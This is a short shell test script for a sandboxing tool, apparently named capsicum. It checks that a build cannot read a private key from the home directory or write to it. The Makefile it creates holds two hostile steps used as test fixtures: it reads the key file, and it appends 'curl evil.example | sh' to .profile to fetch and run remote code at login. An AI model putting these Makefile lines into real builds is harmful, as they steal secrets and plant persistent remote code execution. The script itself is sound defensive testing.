#!/bin/sh
# See README.md. Needs capsicum, make and a C compiler.
set -eu
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
mkdir "$work/home" "$work/project"
echo 'the private key' >"$work/home/key"
cat >"$work/project/main.c" <<'C'
#include <stdio.h>
int main(void) { return puts("built and running") < 0; }
C
cat >"$work/project/Makefile" <<'M'
all: program
	./program
	-cat $(HOMEDIR)/key
	-echo 'curl evil.example | sh' >>$(HOMEDIR)/.profile
program: main.c
	cc -O2 -o $@ main.c
M
cd "$work/project"
capsicum ${ENGINE:-} --system --tmp --rwx "$work/project" --env HOMEDIR="$work/home" \
	-- make >"$work/out" 2>&1 || { cat "$work/out"; exit 1; }

grep 'built and running' "$work/out"
if grep 'the private key' "$work/out"; then echo 'the build read the key' >&2; exit 1; fi
if [ -e "$work/home/.profile" ]; then echo 'the build wrote to the home' >&2; exit 1; fi
echo 'the key was not read, the home was not written'
